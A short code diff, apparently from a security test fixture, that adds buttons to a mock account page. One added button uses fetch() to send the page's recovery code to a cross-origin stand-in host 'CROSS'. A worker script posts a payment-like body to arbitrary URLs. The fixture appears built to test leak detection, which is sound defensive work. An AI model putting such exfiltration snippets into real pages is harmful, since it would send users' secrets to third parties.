@@ -60,6 +60,8 @@ PAGES: dict[str, str] = {
     "secret": f"""<title>Account</title><h1>Your account</h1><p>Your recovery code is {SECRET}.</p>
 <form method="get" action="CROSS/search"><input type="hidden" name="q" value="{SECRET}"><button id="find">Find</button></form>
 <a id="out" href="/redirect?to=CROSS/land%3Fref%3D{SECRET}">Next page</a>
+<button id="leak" onclick="fetch('CROSS/collect?d={SECRET}', {{mode: 'no-cors'}})">Share</button>
+<button id="count-cross" onclick="fetch('CROSS/collect?e=view', {{mode: 'no-cors'}})">Count</button>
 <a id="plain" href="/redirect?to=CROSS/land%3Fref%3Dwelcome">Other page</a>""",
 }
 WORKER_JS = "onmessage = (e) => fetch(e.data, {method: 'POST', body: 'amount=9'});"
